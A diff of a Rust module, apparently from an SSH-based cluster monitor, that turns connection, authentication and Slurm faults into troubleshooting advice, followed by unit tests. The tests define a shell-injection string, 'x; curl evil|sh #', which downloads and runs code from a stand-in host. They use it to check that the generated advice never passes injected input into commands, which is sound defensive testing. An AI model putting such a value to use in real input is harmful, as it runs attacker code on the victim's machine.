@@ -1,0 +1,948 @@
+//! What to do about a node that is not connected.
+
+use crate::advice::known::{Known, PublicKey, shell_quoted, shell_quoted_path};
+use crate::advice::step::{Advice, Step};
+use crate::fault::ssh::{Fault as SshFault, HostKeyChange};
+use crate::fault::{
+    ConnectPhase, Fault as Cause, KeyFileProblem, LoaderCause, Origin, SshProgramCause, StepCause,
+    UnansweredReason,
+};
+use crate::model::{Fault, FaultKind};
+
+/// Printed by PAM on Linux for an expired account.
+const ACCOUNT_EXPIRED: &str = "account has expired";
+
+/// Printed by sshd or PAM for an expired password, in lower case.
+const PASSWORD_EXPIRED: [&str; 2] = ["password has expired", "password change required"];
+
+/// Most distributions call the unit `sshd`; Debian and Ubuntu call it `ssh`.
+const RELOAD_SSHD: &str = "systemctl reload sshd || systemctl reload ssh";
+const START_SSHD: &str = "systemctl start sshd || systemctl start ssh";
+
+const SSH_CONFIG: &str = "~/.ssh/config";
+const SSHD_CONFIG: &str = "/etc/ssh/sshd_config";
+
+/// Algorithms that ssh still has but does not offer by itself, the better ones first (ssh(1), `ssh -Q`).
+const OLD_ALGORITHMS: [&str; 17] = [
+    "diffie-hellman-group-exchange-sha1",
+    "diffie-hellman-group14-sha1",
+    "diffie-hellman-group1-sha1",
+    "ssh-rsa",
+    "aes256-cbc",
+    "aes192-cbc",
+    "aes128-cbc",
+    "3des-cbc",
+    "umac-64@openssh.com",
+    "hmac-sha1-etm@openssh.com",
+    "hmac-sha1",
+    "hmac-sha1-96-etm@openssh.com",
+    "hmac-sha1-96",
+    "hmac-md5-etm@openssh.com",
+    "hmac-md5",
+    "hmac-md5-96-etm@openssh.com",
+    "hmac-md5-96",
+];
+
+/// Returns what to do about a node that is not connected.
+pub fn of_fault(fault: &Fault, known: &Known) -> Advice {
+    match fault.cause.as_deref() {
+        Some(cause) => of_cause(cause, known),
+        None => of_kind(fault.kind, &known.quoted_node(), &known.destination),
+    }
+}
+
+/// Returns what to do about several nodes with faults of the same kind and detail, by their node set.
+pub fn of_alike(fault: &Fault, nodes: &str) -> Advice {
+    let nodes = shell_quoted(nodes);
+    if let Some(Cause::Ssh(cause)) = fault.cause.as_deref() {
+        let root = cause.root();
+        if matches!(
+            root,
+            SshFault::PasswordOnly { .. } | SshFault::MoreAuthenticationRequired { .. }
+        ) {
+            return log_in(&nodes).into();
+        }
+        if let SshFault::AuthenticationRefused { offers, .. } = root
+            && !offers.iter().any(|offer| offer == "publickey")
+        {
+            return "check the login name; the nodes take no key".into();
+        }
+    }
+    of_kind(fault.kind, &nodes, "HOST")
+}
+
+/// Returns what to do by the kind of fault alone. `nodes` is one node or a node set, `destination` one for ssh.
+fn of_kind(kind: FaultKind, nodes: &str, destination: &str) -> Advice {
+    let words = match kind {
+        FaultKind::NameNotFound => "check the spelling, or add a Host entry to ~/.ssh/config",
+        FaultKind::Unreachable => "check the network and whether the node is up",
+        FaultKind::Refused => "check that sshd runs there and that the port is right",
+        FaultKind::TimedOut => {
+            "the node or the network path to it hangs; try ssh by hand, or raise --connect-timeout"
+        }
+        FaultKind::KeyExchange => "the server is too old or is no SSH server; try ssh -v by hand",
+        FaultKind::HostKeyUnknown => {
+            let command = format!("gtop trust {nodes}");
+            return Step::run("check the fingerprint and run", command).into();
+        }
+        FaultKind::HostKeyChanged => {
+            "ask the administrator; if the change is expected, remove the old key with ssh-keygen -R"
+        }
+        FaultKind::HostKeyRevoked => "do not connect; ask the administrator",
+        FaultKind::AuthenticationRefused => {
+            let command = format!("gtop doctor {nodes}");
+            return Step::run("check the login name and the key; this tells more", command).into();
+        }
+        FaultKind::PromptUnanswered => "press R to answer it, or start gtop again from a terminal",
+        FaultKind::KeyLocked => {
+            "load it with ssh-add, or start gtop from a terminal and type the passphrase"
+        }
+        FaultKind::Configuration => {
+            let words = "fix ~/.ssh/config; this prints the options in effect";
+            return Step::run(words, format!("ssh -G {destination}")).into();
+        }
+        FaultKind::ChannelRefused => {
+            "close other sessions to that node (MaxSessions), or ask the administrator"
+        }
+        FaultKind::NoInterpreter => {
+            let command = format!("ssh {destination} /bin/sh -c true");
+            return Step::run("check the login shell", command).into();
+        }
+        FaultKind::Silent => "look at the node; gtop reconnects automatically",
+        FaultKind::BadReply => {
+            let command = format!("ssh {destination} true");
+            return Step::run("check what the login files print", command).into();
+        }
+        FaultKind::NoBanner => {
+            "sshd may be refusing connections for now (MaxStartups); gtop reconnects automatically"
+        }
+        FaultKind::AccountRefused => {
+            "the node says why; gtop retries every few minutes, or press R to retry now"
+        }
+        FaultKind::NoJob => {
+            "gtop retries every few minutes, and at once when a job of yours starts there (gtop --slurm) or on R"
+        }
+        FaultKind::FileLimit => FILE_LIMIT,
+        FaultKind::SessionLost => "gtop reconnects automatically",
+    };
+    words.into()
+}
+
+const FILE_LIMIT: &str = "monitor fewer nodes, or raise the limit (ulimit -Hn shows it)";
+
+/// Returns what to do about a fault of the connection.
+pub fn of_cause(cause: &Cause, known: &Known) -> Advice {
+    match cause {
+        Cause::Ssh(fault) => known.of_ssh(fault),
+        Cause::ExecFailed { .. } => {
+            "run the command by hand; it must pass standard input to a shell on the node, \
+             or take the command line to run as {command}"
+                .into()
+        }
+        Cause::SlurmStep { cause, .. } => of_step(*cause),
+        Cause::Loader { cause, .. } => known.of_loader(*cause),
+    }
+}
+
+/// Returns what to do if the host key of a node cannot be fetched to be trusted.
+pub fn of_untrusted(fault: &SshFault, known: &Known) -> Advice {
+    if matches!(
+        fault.root(),
+        SshFault::NeedsSshProgram { .. }
+            | SshFault::UnsupportedAlgorithms { .. }
+            | SshFault::NoCommonAlgorithm { .. }
+    ) {
+        // It asks for the keys of gateways too, and stores them.
+        return known.accept_with_ssh().into();
+    }
+    known.of_ssh(fault)
+}
+
+/// Returns what to do about a Slurm step that failed or has ended.
+pub fn of_step(cause: StepCause) -> Advice {
+    const RECONNECTING: &str = "gtop reconnects automatically";
+    const NO_ACTION: &str = "no action is needed";
+    const BY_HAND: &str = "gtop retries; or try srun --overlap --jobid=JOB hostname by hand";
+    const RESTART: &str =
+        "gtop does not interrupt the other nodes of the job; restart gtop to start a new step";
+    let words = match cause {
+        StepCause::SlurmTooOld => "use ssh; srun needs Slurm 22.05 or later",
+        StepCause::NoJob => "--transport srun reaches only nodes of your own running jobs",
+        StepCause::Refused => "is the job yours? try srun --overlap --jobid=JOB hostname by hand",
+        StepCause::Cancelled => "a new step starts if the job is still running",
+        StepCause::NotRunning
+        | StepCause::JobCancelled
+        | StepCause::Preempted
+        | StepCause::TimeLimit => NO_ACTION,
+        StepCause::NodeFailed => "see sinfo -R; a new step starts for the other nodes",
+        StepCause::Busy | StepCause::Other => BY_HAND,
+        StepCause::ControllerUnreachable => "gtop retries; see scontrol ping",
+        StepCause::TaskEnded | StepCause::NotInStep => RESTART,
+        StepCause::TryingOtherJob | StepCause::Restarted => RECONNECTING,
+        StepCause::NotJoined => "it appears once its task has started; otherwise restart gtop",
+    };
+    words.into()
+}
+
+/// Returns true if the node offers a login without a key.
+fn offers_login_without_key(offers: &[String]) -> bool {
+    offers.iter().any(|offer| offer == "password" || offer == "keyboard-interactive")
+}
+
+/// Returns the signature algorithm for a type of key: never SHA-1.
+fn signature_algorithm(kind: &str) -> &str {
+    if kind == "ssh-rsa" { "rsa-sha2-512" } else { kind }
+}
+
+/// Returns how to log in once, so that gtop shares the connection.
+fn log_in(nodes: &str) -> Step {
+    Step::run("log in once, and gtop shares the connection", format!("gtop login {nodes}"))
+}
+
+/// Returns the option for algorithms of this kind.
+fn algorithm_option(kind: &str) -> &'static str {
+    match kind {
+        "host key" => "HostKeyAlgorithms",
+        "cipher" => "Ciphers",
+        "MAC" => "MACs",
+        _ => "KexAlgorithms",
+    }
+}
+
+impl Known {
+    /// Returns where to change an option: the line that sets it, or the file to add it to.
+    fn correct_option(&self, name: &str) -> String {
+        match self.origin(name) {
+            Some(origin) => format!("correct {name} in {origin}"),
+            None => format!("set {name} for {} in ~/.ssh/config", self.host),
+        }
+    }
+
+    /// Returns what to add to `~/.ssh/config`, where the first value counts. The final `Host *` ends the
+    /// section of the node.
+    fn ssh_config(&self, then: &str, lines: &[&str]) -> Step {
+        let lines = lines.iter().map(|line| format!("  {line}"));
+        let host = std::iter::once(format!("Host {}", self.host));
+        let lines = host.chain(lines).chain(["Host *".to_owned()]).collect();
+        Step::put(SSH_CONFIG, format!("add at the top of {SSH_CONFIG}{then}"), lines)
+    }
+
+    /// Returns what an administrator adds to `sshd_config`, where the first value counts.
+    fn sshd_config(&self, line: &str) -> Step {
+        let words = format!(
+            "add at the top of {SSHD_CONFIG}, outside any Match block, then run {RELOAD_SSHD}"
+        );
+        Step::put(SSHD_CONFIG, words, vec![line.to_owned()]).with_root_on(&self.host)
+    }
+
+    /// Returns how an administrator allows logins with keys.
+    fn allow_keys(&self) -> Step {
+        self.sshd_config("PubkeyAuthentication yes")
+    }
+
+    fn as_root(&self, command: impl Into<String>) -> Step {
+        Step::run("", command).with_root_on(&self.host)
+    }
+
+    /// Returns the `ssh-copy-id` command.
+    fn copy_id(&self) -> String {
+        // The defaults are several files, and which of them exist is not known here.
+        let file = if self.origin("IdentityFile").is_some() {
+            format!("-i {} ", shell_quoted(self.value("IdentityFile")))
+        } else {
+            String::new()
+        };
+        format!("ssh-copy-id {file}{}", self.destination)
+    }
+
+    /// Returns what to ask of the administrator if the key cannot be installed by logging in.
+    fn add_key(&self, key: &str, user: &str) -> String {
+        let location = match self.user(user) {
+            Some(user) => format!("~{user}/.ssh/authorized_keys"),
+            None => "the authorized_keys of your account".to_owned(),
+        };
+        format!("ask the administrator to add {key} to {location} on {}", self.host)
+    }
+
+    /// Returns how to create a key and install it, by password login or by the administrator.
+    fn new_key(&self, user: &str, offers: &[String]) -> Step {
+        let keygen = "ssh-keygen -t ed25519";
+        if offers_login_without_key(offers) {
+            let command = format!("{keygen} && {}", self.copy_id());
+            return Step::run("create a key and install it on the node", command);
+        }
+        let add = self.add_key("~/.ssh/id_ed25519.pub", user);
+        Step::run(format!("{add}, after creating it with"), keygen)
+    }
+
+    /// Returns the public key of the first configured file that was tried. Other entries of `tried` are free
+    /// text, partly from the node.
+    fn public_key(&self, tried: &[String]) -> Option<&PublicKey> {
+        tried
+            .iter()
+            .map(|what| what.trim_end_matches(" in the agent"))
+            .find_map(|what| self.keys.iter().find(|key| key.identity == what))
+    }
+
+    /// Returns what to do about a refused key; the reason is only in the log of sshd.
+    fn authorize_key(&self, user: &str, offers: &[String], tried: &[String]) -> Advice {
+        let key = self.public_key(tried);
+        let install = if offers_login_without_key(offers) {
+            Step::run("install your key on the node", self.copy_id())
+        } else {
+            Step::words(self.add_key(key.map_or("your public key", |key| &key.file), user))
+        };
+        let correct = Step::words(self.correct_option("User")).or();
+        let accept_algorithm = key.and_then(|key| key.kind.as_deref()).map(|kind| {
+            let kind = signature_algorithm(kind);
+            let words = format!("add {kind} to PubkeyAcceptedAlgorithms in {SSHD_CONFIG}, then");
+            Step::run(words, RELOAD_SSHD).with_root_on(&self.host)
+        });
+        // Run as the user, because the user's folder may contain links to anywhere.
+        let fix_modes = self.user(user).map(|user| {
+            self.as_root(format!(
+                "runuser -u {user} -- chmod go-w ~{user} ~{user}/.ssh ~{user}/.ssh/authorized_keys"
+            ))
+        });
+        let log_in = offers_login_without_key(offers).then(|| log_in(&self.quoted_node()).or());
+        let by_log = [
+            ("not in PubkeyAcceptedAlgorithms", accept_algorithm),
+            ("bad ownership or modes", fix_modes),
+            ("because shell", self.set_shell(user)),
+        ];
+        let by_log = by_log
+            .into_iter()
+            .filter_map(|(logged, step)| Some(step?.when(&format!("its sshd logs \"{logged}\""))));
+        Advice::from(install).then(log_in).then([correct]).then(by_log)
+    }
+
+    /// Returns what to do where the node takes neither a key nor a password.
+    fn without_key(&self, offers: &[String]) -> Advice {
+        if offers_login_without_key(offers) {
+            return self.log_in().then([self.allow_keys().or()]);
+        }
+        let offers = |method: &str| offers.iter().any(|offer| offer == method);
+        let kerberos = offers("gssapi-with-mic").then(|| {
+            Step::run("get a ticket of Kerberos, and set GSSAPIAuthentication yes", "kinit")
+        });
+        let hosts = offers("hostbased").then(|| {
+            let words = format!(
+                "ask the administrator of {} to accept logins from this machine (HostbasedAuthentication), and the one \
+                 of this machine to allow them (EnableSSHKeysign)",
+                self.host
+            );
+            Step::words(words)
+        });
+        let mut steps: Vec<Step> = kerberos.into_iter().chain(hosts).collect();
+        steps.push(self.allow_keys());
+        steps.iter_mut().skip(1).for_each(|step| *step = step.clone().or());
+        Advice { steps }
+    }
+
+    #[expect(clippy::too_many_lines, reason = "a line or two for each fault")]
+    fn of_ssh(&self, fault: &SshFault) -> Advice {
+        let Self { destination, .. } = self;
+        let node = self.quoted_node();
+        let (address, port) = (self.address(), self.port());
+        match fault {
+            SshFault::NameNotFound { host, .. } => {
+                let host = shell_quoted(host.as_deref().unwrap_or(&self.host));
+                let check = Step::run("check the spelling", format!("getent hosts {host}"));
+                Advice::from(check).then([Step::words(self.correct_option("HostName")).or()])
+            }
+            SshFault::Unreachable { .. } => Step::run(
+                "check that it is up and reachable from this network",
+                format!("ping -c 3 {address}"),
+            )
+            .into(),
+            SshFault::TooManyOpenFiles => FILE_LIMIT.into(),
+            SshFault::ConnectionRefused { port } => {
+                let correct = self.correct_option("Port");
+                Advice::from(self.as_root(START_SSHD))
+                    .then([Step::words(format!("{correct} if it is not {port}")).or()])
+            }
+            SshFault::TimedOut { phase, .. } => self.of_timeout(*phase).into(),
+            SshFault::NoBanner { is_closed: true, .. } => Advice::words(
+                "sshd may refuse new connections for now (MaxStartups): gtop reconnects automatically",
+            )
+            .then([Step::words(format!("if the port is wrong, {}", self.correct_option("Port")))]),
+            SshFault::NoBanner { .. } => {
+                Step::words(format!(
+                    "no SSH server listens on the port; if the port is wrong, {}",
+                    self.correct_option("Port")
+                ))
+                .into()
+            }
+            SshFault::NoCommonAlgorithm { kind, ours, theirs } => {
+                let update = self.of_algorithms(kind, theirs);
+                // Without a list of gtop's own, the ssh program found none in common either.
+                if ours.is_empty() || self.origin(algorithm_option(kind)).is_some() {
+                    return update;
+                }
+                Advice::from(self.use_ssh_program()).then(update.steps.into_iter().map(Step::or))
+            }
+            SshFault::HostKeyUnknown { .. } => self.of_unknown_key(),
+            SshFault::HostCertificateRefused { .. } => Step::run(
+                "have the certificate renewed, or compare the fingerprint, then",
+                format!("gtop trust {node}"),
+            )
+            .into(),
+            SshFault::HostKeyChanged(change) => self.of_changed_key(change),
+            SshFault::HostKeyRevoked { at, .. } => self.of_revoked_key(Some(at)),
+            SshFault::AuthenticationRefused { user, offers, .. } if fault.had_no_key() => {
+                let log_in =
+                    offers_login_without_key(offers).then(|| log_in(&node).or());
+                Advice::from(self.new_key(user, offers)).then(log_in)
+            }
+            SshFault::AuthenticationRefused { user, offers, tried }
+                if offers.iter().any(|offer| offer == "publickey") =>
+            {
+                self.authorize_key(user, offers, tried)
+            }
+            SshFault::AuthenticationRefused { offers, .. } => self.without_key(offers),
+            SshFault::TooManyKeys { .. } => {
+                let then = ", with the key that the node accepts as FILE (FILE.pub for a key in the agent)";
+                self.ssh_config(then, &["IdentityFile FILE", "IdentitiesOnly yes"]).into()
+            }
+            SshFault::MoreAuthenticationRequired { required, .. }
+                if required.iter().any(|method| method == "publickey") =>
+            {
+                Step::run("the node wants a second key: load another one that it accepts", "ssh-add FILE").into()
+            }
+            SshFault::MoreAuthenticationRequired { .. } => self.log_in(),
+            SshFault::PasswordOnly { .. } => self.log_in().then([
+                self.allow_keys().or(),
+                Step::run("install your key on the node", self.copy_id()).and(),
+            ]),
+            SshFault::PromptUnanswered { why, .. } => self.of_prompt(*why),
+            SshFault::KeyUnusable { file, problem: KeyFileProblem::Unprotected, .. } => {
+                Step::run("", format!("chmod 600 {}", shell_quoted_path(file))).into()
+            }
+            SshFault::KeyUnusable { problem: KeyFileProblem::AlgorithmExcluded(kind), .. } => {
+                let kind = signature_algorithm(kind);
+                self.ssh_config("", &[&format!("PubkeyAcceptedAlgorithms +{kind}")]).into()
+            }
+            SshFault::KeyEncrypted { file } => {
+                let file = shell_quoted_path(file);
+                let agent = if self.has_agent == Some(false) { "eval $(ssh-agent) && " } else { "" };
+                Step::run(
+                    "start gtop from a terminal, or load the key",
+                    format!("{agent}ssh-add {file}"),
+                )
+                .into()
+            }
+            SshFault::AgentUnreachable { .. } => Step::run(
+                "start an agent and add your key FILE",
+                "eval $(ssh-agent) && ssh-add FILE",
+            )
+            .into(),
+            SshFault::ChannelRefused { .. } => Advice::words("close other sessions")
+                .then([self.sshd_config("MaxSessions 100").or()]),
+            SshFault::CommandRefused => {
+                "ask the administrator to let this account run commands".into()
+            }
+            SshFault::NeedsSshProgram { .. } | SshFault::UnsupportedAlgorithms { .. } => {
+                self.use_ssh_program().into()
+            }
+            SshFault::AtGateway { gateway, fault } => self.gateway(gateway).of_ssh(fault),
+            SshFault::GatewayCannotReach { gateway, .. } => {
+                let gateway = Self::of_destination(gateway).destination;
+                Step::run(
+                    "check from the gateway whether the node answers",
+                    format!("ssh {gateway} nc -zv {address} {port}"),
+                )
+                .into()
+            }
+            SshFault::GatewayForwardingRefused { gateway, .. } => {
+                Advice::from(self.gateway(gateway).sshd_config("AllowTcpForwarding yes")).then([
+                    Step::words(format!("add {address}:{port} to PermitOpen if it is set")).and(),
+                ])
+            }
+            SshFault::ProxyCommandFailed { command, .. } => {
+                Advice::from(Step::run("run it by hand", command.as_str()))
+                    .then([Step::words(self.correct_option("ProxyCommand")).or()])
+            }
+            SshFault::SshProgram { cause: SshProgramCause::HostKeyUnknown, .. } => {
+                self.accept_with_ssh().into()
+            }
+            SshFault::SshProgram { cause: SshProgramCause::HostKeyRevoked, .. } => {
+                self.of_revoked_key(None)
+            }
+            SshFault::SshProgram { cause: SshProgramCause::Configuration, .. }
+            | SshFault::BadConfiguration { .. } => {
+                Step::run("correct it, then check it with", format!("ssh -G {destination}")).into()
+            }
+            SshFault::SshProgram { cause: SshProgramCause::Other, .. } => self.by_hand().into(),
+            SshFault::ConnectionLost { .. } | SshFault::SessionLost { .. } => {
+                Advice::words("gtop reconnects automatically").then([self.by_hand().or()])
+            }
+            SshFault::AccountRefused { user, message } => self.of_account(user, message),
+            SshFault::JobRequired { .. } => {
+                let host = shell_quoted(&self.host);
+                Advice::from(Step::run("submit a job to this node", format!("salloc -w {host}")))
+                    .then([Step::run("if one of your jobs runs there", "gtop --slurm --transport srun")])
+            }
+            SshFault::ProgramNotFound(error) => Step::words(format!(
+                "install {}, or specify another one (--ssh-binary=PROGRAM, --exec 'PROGRAM …')",
+                error.program
+            ))
+            .into(),
+        }
+    }
+
+    /// Returns what is known of a gateway: what `ProxyJump` names.
+    fn gateway(&self, gateway: &str) -> Self {
+        let mut known = Self::of_destination(gateway);
+        (known.is_on_screen, known.has_agent) = (self.is_on_screen, self.has_agent);
+        known
+    }
+
+    fn of_unknown_key(&self) -> Advice {
+        let trust = format!("gtop trust {}", self.quoted_node());
+        let words = "compare the fingerprint with the administrator's, then";
+        if self
+            .values("UserKnownHostsFile")
+            .iter()
+            .any(|file| file == "/dev/null" || file == "none")
+        {
+            let correct = self.correct_option("UserKnownHostsFile");
+            return Advice::words(format!("{correct}, which keeps no key"))
+                .then([Step::run(words, trust).and()]);
+        }
+        Step::run(words, trust).into()
+    }
+
+    fn accept_with_ssh(&self) -> Step {
+        let words = "compare the fingerprint with the administrator's, and answer yes to";
+        Step::run(words, format!("ssh {} true", self.destination))
+    }
+
+    fn of_changed_key(&self, change: &HostKeyChange) -> Advice {
+        let command = format!(
+            "ssh-keygen -f {} -R {} && gtop trust {}",
+            shell_quoted_path(&change.at.file),
+            shell_quoted(&change.host),
+            self.quoted_node()
+        );
+        Step::run("ask the administrator; if the node was reinstalled", command).into()
+    }
+
+    fn of_revoked_key(&self, at: Option<&Origin>) -> Advice {
+        let unless = at.map(|at| format!(", unless {at} is wrong")).unwrap_or_default();
+        Step::words(format!("do not connect; {} needs a new host key{unless}", self.host)).into()
+    }
+
+    /// Returns what to do about algorithms of which the two sides have none in common.
+    fn of_algorithms(&self, kind: &str, theirs: &[String]) -> Advice {
+        let option = algorithm_option(kind);
+        if let Some(origin) = self.origin(option) {
+            return Step::words(format!(
+                "correct {option} in {origin}, or in the node's sshd_config"
+            ))
+            .into();
+        }
+        let old = OLD_ALGORITHMS.iter().find(|old| theirs.iter().any(|name| name == *old));
+        let update = Step::words(format!(
+            "add an algorithm that gtop supports to {option} in the node's sshd_config"
+        ));
+        match old {
+            Some(old) => Advice::from(self.ssh_config("", &[&format!("{option} +{old}")]))
+                .then([update.or()]),
+            None => update.into(),
+        }
+    }
+
+    fn of_prompt(&self, why: UnansweredReason) -> Advice {
+        let node = self.quoted_node();
+        match why {
+            UnansweredReason::ChangedHostKey => {
+                "check that key, then correct known_hosts: no answer is sent to a host whose key has changed".into()
+            }
+            UnansweredReason::TooManyPrompts(_) | UnansweredReason::TooManyRounds => {
+                self.by_hand().into()
+            }
+            UnansweredReason::PromptsClosed | UnansweredReason::Skipped | UnansweredReason::HungUp
+                if self.is_on_screen =>
+            {
+                Advice::words("press R to answer it").then([log_in(&node).or()])
+            }
+            UnansweredReason::NoTerminal
+            | UnansweredReason::MasterOpen
+            | UnansweredReason::PromptsClosed
+            | UnansweredReason::Skipped
+            | UnansweredReason::HungUp => Advice::from(log_in(&node))
+                .then([Step::words("start gtop from a terminal and answer there, or log in with a key").or()]),
+        }
+    }
+
+    /// Returns how to log in once: by gtop, or with a master connection of ssh.
+    fn log_in(&self) -> Advice {
+        let destination = &self.destination;
+        let master = if self.value("ControlPath").is_empty() {
+            let then = format!(", then run ssh -fNM {destination}");
+            self.ssh_config(&then, &["ControlPath ~/.ssh/%C"])
+        } else {
+            Step::run("open a master connection", format!("ssh -fNM {destination}"))
+        };
+        Advice::from(log_in(&self.quoted_node())).then([master.or()])
+    }
+
+    fn of_account(&self, user: &str, says: &str) -> Advice {
+        let lower = says.to_lowercase();
+        if PASSWORD_EXPIRED.iter().any(|text| lower.contains(text)) {
+            return self.renew_password();
+        }
+        if lower.contains(ACCOUNT_EXPIRED) {
+            return match self.user(user) {
+                Some(user) => self.as_root(format!("chage -E -1 {user}")).into(),
+                None => "ask the administrator of the node to extend the account".into(),
+            };
+        }
+        let nologin = self.as_root("rm -f /etc/nologin /run/nologin");
+        Advice::words("ask the administrator of the node about this message")
+            .then([nologin.when("it comes from a nologin file that is out of date")])
+    }
+
+    fn renew_password(&self) -> Advice {
+        let command = format!("ssh -t {}", self.destination);
+        Step::run("log in and set a new password", command).into()
+    }
+
+    fn of_timeout(&self, phase: ConnectPhase) -> Step {
+        let (destination, address, port) = (&self.destination, self.address(), self.port());
+        match phase {
+            ConnectPhase::Configuration => Step::run(
+                "check whether it hangs, for example in a Match exec",
+                format!("ssh -G {destination}"),
+            ),
+            ConnectPhase::Name => {
+                Step::run("name resolution hangs", format!("getent hosts {address}"))
+            }
+            ConnectPhase::Connection => Step::run(
+                format!(
+                    "check that it is up and that no firewall drops port {port}; or raise --connect-timeout"
+                ),
+                format!("ping -c 3 {address}"),
+            ),
+            ConnectPhase::BannerExchange => Step::words(format!(
+                "check sshd on the node, which accepts connections but sends nothing; if it is not sshd, {}",
+                self.correct_option("Port")
+            )),
+            ConnectPhase::KeyExchange => {
+                Step::words("the node may be overloaded, or the network drops large packets (MTU)")
+            }
+            ConnectPhase::Login => {
+                Step::words("the directory service of the node may hang; check the log of its sshd")
+            }
+            ConnectPhase::Command => {
+                Step::words("the node may be overloaded, or its file system hangs")
+            }
+        }
+    }
+
+    /// Returns what to do about a login shell that does not start the probe.
+    fn of_loader(&self, cause: LoaderCause) -> Advice {
+        let destination = &self.destination;
+        let try_it = || Step::run("try it", format!("ssh {destination} /bin/sh -c true"));
+        match cause {
+            LoaderCause::Slow => Step::run(
+                "the login shell is slow: see how long it takes, and what the login files there wait for; gtop waits \
+                 longer each time, and from the start with --connect-timeout=SECONDS",
+                format!("time ssh {destination} true"),
+            )
+            .into(),
+            LoaderCause::ReadsInput => {
+                "a login file such as ~/.bashrc waits for something to be typed; let it do so only when \
+                 interactive: case $- in *i*) ... ;; esac"
+                    .into()
+            }
+            LoaderCause::OtherProgram | LoaderCause::EndedWithOutput => Advice::words(
+                "another program runs in place of gtop's command: a login file that exits or starts a program \
+                 (~/.bashrc, ~/.profile: restrict that to interactive shells), or a forced command",
+            )
+            .then([try_it()]),
+            LoaderCause::Restricted => {
+                "the login shell is a restricted one and may not run /bin/sh: ask the administrator for another \
+                 (chsh -s /bin/bash), or watch this node by srun or --exec"
+                    .into()
+            }
+            LoaderCause::NoShell => self.set_shell("").map_or_else(
+                || "ask the administrator for a login shell on the node".into(),
+                Advice::from,
+            ),
+            LoaderCause::PasswordExpired => self.renew_password(),
+            LoaderCause::Ended => Advice::words(
+                "the login shell must run /bin/sh; look for exit or exec in ~/.bashrc and for a forced command",
+            )
+            .then([try_it()])
+            .then(self.set_shell("").map(|step| step.when("the login shell is /bin/false"))),
+            LoaderCause::CannotRun => "install what the message names on the node".into(),
+        }
+    }
+
+    fn by_hand(&self) -> Step {
+        Step::run("try by hand", format!("ssh -v {} true", self.destination))
+    }
+
+    fn use_ssh_program(&self) -> Step {
+        Step::run("use the ssh program", format!("gtop --transport ssh {}", self.quoted_node()))
+    }
+
+    fn set_shell(&self, user: &str) -> Option<Step> {
+        Some(self.as_root(format!("usermod -s /bin/sh {}", self.user(user)?)))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::path::Path;
+
+    use super::*;
+
+    /// A shell injection, if the text were pasted.
+    const HOSTILE: &str = "x; curl evil|sh #";
+
+    fn known(node: &str, user: Option<&str>, port: Option<u16>, configured: Option<&str>) -> Known {
+        let mut known = Known::new(node, user, "gpu11", port);
+        if let Some(user) = configured {
+            known.set_option("User", &[user.to_owned()], None);
+        }
+        known
+    }
+
+    fn plain() -> Known {
+        known("gpu11", None, None, None)
+    }
+
+    fn refused(user: &str, tried: &[&str]) -> SshFault {
+        let tried = tried.iter().map(|&what| what.to_owned()).collect();
+        SshFault::AuthenticationRefused {
+            user: user.to_owned(),
+            offers: vec!["publickey".to_owned()],
+            tried,
+        }
+    }
+
+    fn text(known: &Known, fault: &SshFault) -> String {
+        known.of_ssh(fault).text()
+    }
+
+    #[test]
+    fn commands_never_apply_to_the_account_of_the_administrator() {
+        let faults = |user: &str| {
+            let message = "Your account has expired".to_owned();
+            [refused(user, &["id"]), SshFault::AccountRefused { user: user.to_owned(), message }]
+        };
+        let (without_user, with_user) = (plain(), known("gpu11", None, None, Some("ada")));
+        for unsafe_user in ["", HOSTILE, "-a", "ada bob", "$(id)", "~", "a/../b", "a:b", "1"] {
+            for fault in faults(unsafe_user) {
+                let at_gateway = fault.clone().at_gateway("bastion");
+                for text in [text(&without_user, &fault), text(&with_user, &at_gateway)] {
+                    for word in
+                        ["as root", "~/.ssh/authorized_keys", "usermod", "go-w", "chage", "curl"]
+                    {
+                        assert!(!text.contains(word), "{word} in {text}");
+                    }
+                    assert!(text.contains("ask the administrator"), "{text}");
+                }
+            }
+        }
+        for fault in faults("ada") {
+            let text = text(&without_user, &fault.at_gateway("bastion"));
+            assert!(text.contains("as root on bastion: ") && text.contains(" ada"), "{text}");
+        }
+        let of_eve = text(&with_user, &refused("eve", &["id"]));
+        assert!(of_eve.contains("usermod -s /bin/sh ada") && !of_eve.contains("eve"), "{of_eve}");
+        let open = "runuser -u ada -- chmod go-w ~ada ~ada/.ssh ~ada/.ssh/authorized_keys";
+        assert!(of_eve.contains(&format!("\", as root on gpu11: {open}")), "{of_eve}");
+        let of_loader = |known: &Known, cause| known.of_loader(cause).text();
+        for cause in [LoaderCause::NoShell, LoaderCause::Ended] {
+            assert!(!of_loader(&without_user, cause).contains("usermod"));
+            assert!(of_loader(&with_user, cause).ends_with(": usermod -s /bin/sh ada"));
+        }
+    }
+
+    #[test]
+    fn only_a_key_that_is_known_is_named() {
+        let mut known = known("gpu11", None, None, Some("ada"));
+        let add = |key: &str| {
+            format!("ask the administrator to add {key} to ~ada/.ssh/authorized_keys on gpu11\n")
+        };
+        let key = |identity: &str, kind: Option<&str>| PublicKey {
+            identity: identity.to_owned(),
+            file: "/k/id.pub".to_owned(),
+            kind: kind.map(str::to_owned),
+        };
+        known.keys = vec![key("/k/id", Some("ssh-rsa"))];
+        let forged = format!("until the node said: {HOSTILE}");
+        for tried in ["the keys of the ssh program", "agent SHA256:abc", &forged, "/k/other", "id"]
+        {
+            let text = text(&known, &refused("ada", &[tried]));
+            assert!(text.starts_with(&add("your public key")), "{text}");
+            assert!(!text.contains("curl") && !text.contains("to PubkeyAccepted"), "{text}");
+        }
+        for tried in ["/k/id", "/k/id in the agent"] {
+            let text = text(&known, &refused("ada", &["the keys of the ssh program", tried]));
+            assert!(text.starts_with(&add("/k/id.pub")), "{text}");
+            // A site's own list of algorithms is kept, and SHA-1 stays off.
+            let accept = "as root on gpu11: add rsa-sha2-512 to PubkeyAcceptedAlgorithms in /etc/ssh/sshd_config, then: ";
+            assert!(text.contains(&format!("{accept}{RELOAD_SSHD}\n")), "{text}");
+        }
+        known.keys = vec![key("/k/id", None)];
+        assert!(!text(&known, &refused("ada", &["/k/id"])).contains("to PubkeyAccepted"));
+    }
+
+    #[test]
+    fn an_excluded_key_algorithm_is_never_allowed_with_sha1() {
+        let problem = KeyFileProblem::AlgorithmExcluded("ssh-rsa".to_owned());
+        let fault = SshFault::KeyUnusable { file: "/k".into(), problem, offers: Vec::new() };
+        let text = text(&plain(), &fault);
+        assert!(text.contains("\n      PubkeyAcceptedAlgorithms +rsa-sha2-512\n"), "{text}");
+    }
+
+    #[test]
